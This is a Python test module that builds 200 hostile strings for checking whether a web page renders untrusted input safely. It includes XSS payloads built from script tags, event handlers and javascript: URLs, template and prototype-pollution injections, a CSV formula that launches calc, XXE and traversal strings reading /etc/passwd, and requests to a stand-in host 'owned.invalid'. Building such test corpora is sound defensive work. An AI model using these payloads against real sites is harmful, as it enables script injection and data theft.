"""Texts that become scripts, styles, links or requests in a page that is careless: two hundred of them.

Each names itself by a number. If one of them runs, it adds its number to `window.__owned`, opens a dialog, or sends a
request to a host that does not exist: a watched page sees all three.
"""

from __future__ import annotations

from collections.abc import Iterator

from tests import hostile

COUNT = 200
HOST = "//owned.invalid"
"""Where a payload that works sends its request. The name cannot exist."""

_ELEMENTS = (
    "<script>{js}</script>",
    "<script src={host}/{n}.js></script>",
    '"><script>{js}</script>',
    "'><script>{js}</script>",
    "</script><script>{js}</script>",
    "</SCRIPT ><ScRiPt>{js}</sCrIpT>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</style><script>{js}</script>",
    "</noscript><script>{js}</script>",
    "</template><script>{js}</script>",
    "--><script>{js}</script>",
    "]]><script>{js}</script>",
    "<!--<script>{js}</script>",
    "<!--<script>",
    "<![CDATA[<script>{js}</script>]]>",
    "<img src=x onerror={js}>",
    '<img src="x" onerror="{js}">',
    "<img src='x' onerror='{jq}'>",
    "<img/src=`x`onerror={js}>",
    "<img src={host}/{n}.png>",
    "<IMG SRC=&#106;avascript:{js}>",
    "<image src=x onerror={js}>",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><script href={host}/{n}.js /></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{js}><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={jq}>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>{jq}</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<math href=javascript:{js}>x</math>",
    "<iframe src=javascript:{js}></iframe>",
    "<iframe srcdoc='<script>parent.{jq}</script>'></iframe>",
    "<iframe src={host}/{n}></iframe>",
    "<object data=javascript:{js}></object>",
    "<object data={host}/{n}></object>",
    "<embed src=javascript:{js}>",
    "<embed src={host}/{n}>",
    "<body onload={js}>",
    "<body onpageshow={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<details open ontoggle={js}>x</details>",
    "<video><source onerror={js}></video>",
    "<video src=x onerror={js}></video>",
    "<audio src=x onerror={js}></audio>",
    "<video poster={host}/{n}.png></video>",
    "<marquee onstart={js}>x</marquee>",
    "<a href=javascript:{js}>x</a>",
    '<a href="java\tscript:{js}">x</a>',
    "<a href=&#x6A;avascript:{js}>x</a>",
    "<a href='\x01javascript:{jq}'>x</a>",
    "<a href='data:text/html,<script>{jq}</script>'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a target=_blank href={host}/{n}>x</a>",
    "<form action=javascript:{js}><button>x</button></form>",
    "<form action={host}/{n}><input type=submit autofocus></form>",
    "<button formaction=javascript:{js}>x</button>",
    "<isindex action=javascript:{js} type=image>",
    "<meta http-equiv=refresh content='0;url={host}/{n}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{jq}'>",
    "<base href={host}/>",
    "<link rel=stylesheet href={host}/{n}.css>",
    "<link rel=prefetch href={host}/{n}>",
    "<link rel=dns-prefetch href={host}>",
    "<style>@import '{host}/{n}.css';</style>",
    "<style>*{{background:url({host}/{n}.png)}}</style>",
    "<div style='background:url({host}/{n}.png)'>x</div>",
    "<div style=width:expression({js})>x</div>",
    "<div style='animation:x' onanimationstart='{jq}'>x</div>",
    "<div onpointerover={js} style=position:fixed;inset:0>x</div>",
    "<div onclick={js} style=position:fixed;inset:0;z-index:9999>x</div>",
    "<custom-element onfocus={js} tabindex=0 autofocus>x</custom-element>",
    "<template shadowrootmode=open><script>{js}</script></template>",
    "<dialog open oncancel={js}>x</dialog>",
    "<portal src={host}/{n}></portal>",
    "<applet code={host}/{n}></applet>",
    "<frameset onload={js}></frameset>",
    "<table background={host}/{n}.png><td>x</table>",
    "<p id=app>x</p><p id=holdfast-data>{{}}</p>",
    "<script type=application/json id=holdfast-data>{{}}</script>",
    "<form id=app><input name=attributes><input name=innerHTML></form>",
)
_ADDRESSES = (
    "javascript:{js}",
    "JaVaScRiPt:{js}",
    " javascript:{js}",
    "javascript&colon;{js}",
    "java\nscript:{js}",
    "javascript://%0a{js}",
    "data:text/html,<script>{js}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX293bmVkLnB1c2goMSk8L3NjcmlwdD4=",
    "data:image/svg+xml,<svg xmlns='http:{host}' onload='{jq}'/>",
    "vbscript:msgbox(1)",
    "blob:null/{n}",
    "file:///etc/passwd",
    "http:{host}/{n}",
    "https:{host}/{n}",
    "{host}/{n}",
    "\\\\owned.invalid\\{n}",
    "view-source:http:{host}",
    "#/s/../../{n}",
    "#key=stolen-{n}",
    "../../../../etc/passwd",
    "..%2f..%2f{n}",
    "%00{n}",
    "%3Cscript%3E{js}%3C/script%3E",
    "ws:{host}/{n}",
)
_TEMPLATES = (
    "{{{{constructor.constructor('{jq}')()}}}}",
    "${{{js}}}",
    "`${{{js}}}`",
    "<%= {js} %>",
    "#{{{js}}}",
    "[[{js}]]",
    "{{% {js} %}}",
    "{{{{ self.__init__.__globals__ }}}}",
    "@({js})",
    "*{{{js}}}",
    "dangerouslySetInnerHTML={{{{__html:'{n}'}}}}",
    '{{"__html":"<img src=x onerror={js}>"}}',
    '{{"dangerouslySetInnerHTML":{{"__html":"<img src=x onerror={js}>"}}}}',
    '{{"type":"script","props":{{"children":"{js}"}},"__v":1,"constructor":null}}',
    '{{"$$typeof":"Symbol(react.element)","type":"img","props":{{"src":"x","onerror":"{js}"}}}}',
)
_BREAKERS = (
    '"',
    "'",
    "`",
    "\\",
    '";{js};//',
    "';{js};//",
    "\\';{js};//",
    "\\u003cscript>{js}</script>",
    "\u2028{js}\u2029",
    '"}}]}};{js};[{{"',
    '</script>{{"answers":{{}}}}<script>{js}</script>',
    "*/{js}/*",
    "/*{n}",
    "\r\n\r\n<script>{js}</script>",
    "Content-Type: text/html\r\n\r\n<script>{js}</script>",
    "<<{n}>>",
    "&lt;script&gt;{js}&lt;/script&gt;",
    "&#60;script&#62;{js}&#60;/script&#62;",
    "&NewLine;&Tab;{js}",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "<?php echo {n}; ?>",
    "=cmd|'/C calc'!A{n}",
    "@import '{host}/{n}.css';",
    "}}*{{background:url({host}/{n}.png)}}",
    "expression({js})",
    "[x]({host}/{n})",
    "![x]({host}/{n}.png)",
    "[x](javascript:{js})",
    "<{host}/{n}>",
    "```html\n<script>{js}</script>\n```",
)
_NAMES = (
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "valueOf",
    "__defineGetter__",
    "then",
    "length",
    "innerHTML",
    "onload",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e999",
    "0x7f",
    "../..",
    ".",
)
_LETTERS = (
    "\u202e{n}\u2066tpircs\u2069",
    "\u200f{n} \u061c",
    "\u2066\u2067\u2068{n}",
    "{n}\u0000<script>{js}</script>",
    "{n}\ufeff<script>{js}</script>",
    "{n}\u200b\u200c\u200d",
    "\ufdd0\uffff{n}",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e\u0349{n}",
    "\U000e0001\U000e007f{n}",
    "＜script＞{js}＜/script＞",
    "‹script›{js}‹/script›",
    "🧨👩‍👩‍👧‍👦🏴‍☠️{n}",
    "ﷺ﷽{n}",
    "{n}\u0085\u00a0\u3000",
    "\x1b[31m{n}\x1b]0;x\x07",
    "\x7f\x08{n}",
)


def _fill(text: str, number: int) -> str:
    script = f"__owned.push({number})"
    return text.format(js=script, jq=script.replace("'", '"'), host=HOST, n=number)


def _own() -> Iterator[str]:
    number = 0
    for group in (_ELEMENTS, _ADDRESSES, _TEMPLATES, _BREAKERS, _LETTERS):
        for text in group:
            yield _fill(text, number)
            number += 1
    yield from _NAMES
    yield "A" * 100_000
    yield "<b>" * 20_000
    yield "word " * 10_000
    yield "[" * 5_000


def _borrowed() -> Iterator[str]:
    """Texts of tests/hostile.py that a store accepts."""
    for case in hostile.CASES:
        value = case.make()
        if type(value) is str and value.strip() and len(value) < 2_000 and value.isprintable():
            yield value


def build_payloads() -> tuple[str, ...]:
    """All payloads, each once."""
    texts = dict.fromkeys((*_own(), *_borrowed()))
    return tuple(texts)[:COUNT]


PAYLOADS = build_payloads()
SHORT = tuple(each for each in PAYLOADS if len(each) < 400)
"""Those that fit into a name."""
